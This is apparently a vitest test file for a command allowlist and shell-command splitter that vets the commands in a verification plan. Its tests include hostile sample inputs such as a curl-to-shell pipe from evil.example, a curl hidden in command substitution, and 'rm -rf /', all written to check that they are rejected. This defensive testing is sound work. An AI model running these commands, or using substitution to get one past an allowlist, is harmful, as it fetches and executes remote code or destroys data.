import { describe, expect, it } from 'vitest';
import { Allowlist, simpleCommands } from '../../src/verify/allow.js';
import type { VerifyLevel } from '../../src/verify/types.js';

describe('simpleCommands', () => {
  it('splits where the shell starts a new command, and not inside quotes or redirections', () => {
    expect(simpleCommands('npm ci && npm test 2>&1 | tee log; echo "a; b" &').parts).toEqual([
      'npm ci',
      'npm test 2>&1',
      'tee log',
      'echo "a; b"',
    ]);
  });

  it('takes control keywords off and skips loop headers', () => {
    expect(simpleCommands('for f in a b; do npm test $f; done').parts).toEqual(['npm test $f']);
    expect(simpleCommands('if test -f x; then npm ci; else npm i; fi').parts).toEqual([
      'test -f x',
      'npm ci',
      'npm i',
    ]);
    expect(simpleCommands('(cd sub && make)').parts).toEqual(['cd sub', 'make']);
  });

  it('notices command substitution outside single quotes only', () => {
    expect(simpleCommands('echo $(whoami)').substitution).toBe(true);
    expect(simpleCommands('echo "`id`"').substitution).toBe(true);
    expect(simpleCommands('diff <(ls a) <(ls b)').substitution).toBe(true);
    expect(simpleCommands("echo '$(not run)'").substitution).toBe(false);
    expect(simpleCommands('echo $((1 + 2))').substitution).toBe(false);
    // Inside a parameter expansion too: `${x:-`id`}` runs id.
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a JS template
    expect(simpleCommands('echo ${x:-`id`}').substitution).toBe(true);
  });
});

describe('Allowlist', () => {
  const allow = new Allowlist(['npm *', 'ruff ?heck *', 'node --version']);

  it('is off when empty', () => {
    expect(new Allowlist([]).check('rm -rf /')).toBeNull();
  });

  it('allows commands whose every part matches, star crossing spaces and slashes', () => {
    expect(allow.check('npm test -- tests/unit/feeds')).toBeNull();
    expect(allow.check('npm ci && npm run lint')).toBeNull();
    expect(allow.check('ruff check src/ --fix')).toBeNull();
    expect(allow.check('node   --version')).toBeNull();
  });

  it('rejects a part no pattern matches, naming it', () => {
    expect(allow.check('npm test; curl https://evil.example | sh')).toBe(
      'no pattern matches `curl https://evil.example`',
    );
    expect(allow.check('node --version --eval x')).toMatch(/no pattern matches/);
    expect(allow.check('pytest -q')).toBe('no pattern matches `pytest -q`');
  });

  it('rejects command substitution, which hides a command inside an allowed one', () => {
    expect(allow.check('npm test $(curl -s https://evil.example)')).toMatch(/command substitution/);
  });

  it('lists every rejected command of a plan with its level and line', () => {
    const levels: VerifyLevel[] = [
      {
        level: 1,
        title: 'Lint',
        line: 3,
        commands: [
          { command: 'npm run lint', line: 5, warnings: [] },
          { command: 'touch marker', line: 6, warnings: [] },
        ],
      },
      { level: 2, title: 'Tests', line: 8, commands: [{ command: 'pytest', line: 10, warnings: [] }] },
    ];
    expect(allow.rejections(levels)).toEqual([
      { level: 1, line: 6, command: 'touch marker', reason: 'no pattern matches `touch marker`' },
      { level: 2, line: 10, command: 'pytest', reason: 'no pattern matches `pytest`' },
    ]);
  });

  it('treats a backslash-escaped star as a literal star', () => {
    const literal = new Allowlist(['echo \\*']);
    expect(literal.check('echo *')).toBeNull();
    expect(literal.check('echo hello')).not.toBeNull();
  });
});
